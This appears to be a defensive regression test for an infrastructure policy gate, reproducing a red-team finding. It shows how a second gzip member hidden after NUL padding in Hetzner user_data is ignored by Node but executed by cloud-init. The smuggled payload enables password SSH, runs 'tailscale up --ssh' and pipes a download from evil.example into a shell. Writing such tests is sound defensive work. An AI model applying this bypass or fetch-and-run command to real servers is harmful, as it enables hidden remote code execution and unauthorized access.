import { gunzipSync, gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { judgeResources } from "../policies/engine/judge";
import { decodeUserData } from "../policies/engine/userData";
import { CONTEXT } from "./policies/helpers";
import { planShipped } from "./helpers/stacks";
import { run, toolsAvailable } from "./helpers/tools";

/**
 * Seen by a red team (2026-12-06): Node's gunzip stops at the first NUL byte after a gzip member (it takes NULs as
 * trailing padding and ignores everything after them). Python's gzip module (cloud-init's
 * util.decomp_gzip) skips the NUL padding and reads the next member. So gzip(doc) + "\0" +
 * gzip(more) is `doc` to the gate and `doc + more` to cloud-init; PyYAML keeps the last of
 * duplicate keys, so `more` overrides anything the gate judged.
 */

const SERVER = "hcloud:index/server:Server";

/** The cloud-config cloud-init on a Hetzner server loads from this user_data string (as JSON), or null when it is not cloud-config. */
function cloudInitConfig(sent: string): Record<string, unknown> | null {
    const program = [
        "import json, sys",
        "from cloudinit.sources.helpers.hetzner import maybe_b64decode",
        "from cloudinit.user_data import convert_string",
        "from cloudinit import util, handlers",
        "payload = convert_string(maybe_b64decode(sys.stdin.read().encode())).get_payload(decode=True).decode()",
        "if handlers.type_from_starts_with(payload) != 'text/cloud-config': print('null')",
        "else: print(json.dumps(util.load_yaml(payload), default=str))",
    ].join("\n");
    const result = run("/usr/bin/python3", ["-c", program], { input: sent });
    if (result.status !== 0) throw new Error(result.stderr);
    return JSON.parse(result.stdout);
}

const hasCloudInit = toolsAvailable("cloud-init's own user_data decoding", ["cloud-init"]);

describe.runIf(hasCloudInit)("smuggled user_data: a second gzip member after NUL padding", () => {
    it("the gate judges the first member, cloud-init boots both (the second overrides the first)", async () => {
        const plan = await planShipped("dev", "up");
        const clean = judgeResources(plan.resources, CONTEXT).map((f) => f.rule);
        const sandbox = plan.resources.find((r) => r.type === SERVER && /sandbox/.test(r.name))!;
        const real = Buffer.from(String(sandbox.inputs.userData), "base64");
        const more = "\nssh_pwauth: true\nruncmd:\n  - [tailscale, up, --ssh]\n  - curl -fsSL https://evil.example/x | sh\n";
        const smuggled = Buffer.concat([real, Buffer.from([0]), gzipSync(more)]).toString("base64");
        expect(smuggled.length).toBeLessThanOrEqual(32_768);

        // Node's gunzip alone reads only the real document (seen first: the gate judged that and passed the server).
        expect(gunzipSync(Buffer.from(smuggled, "base64")).toString()).toBe(decodeUserData(String(sandbox.inputs.userData)).text);
        expect(() => decodeUserData(smuggled)).toThrow(/bytes after its gzip stream/);

        // cloud-init's reading: the attacker's keys win.
        const booted = cloudInitConfig(smuggled)!;
        expect(booted.ssh_pwauth).toBe(true);
        expect(booted.runcmd).toEqual([["tailscale", "up", "--ssh"], "curl -fsSL https://evil.example/x | sh"]);

        // The gate must not pass this server.
        const withSmuggled = plan.resources.map((r) => (r === sandbox ? { ...r, inputs: { ...r.inputs, userData: smuggled } } : r));
        const added = judgeResources(withSmuggled, CONTEXT).map((f) => f.rule).filter((r) => !clean.includes(r));
        expect(added, "nothing new reported for a host that boots ssh_pwauth: true and tailscale up --ssh").not.toEqual([]);
    });
});
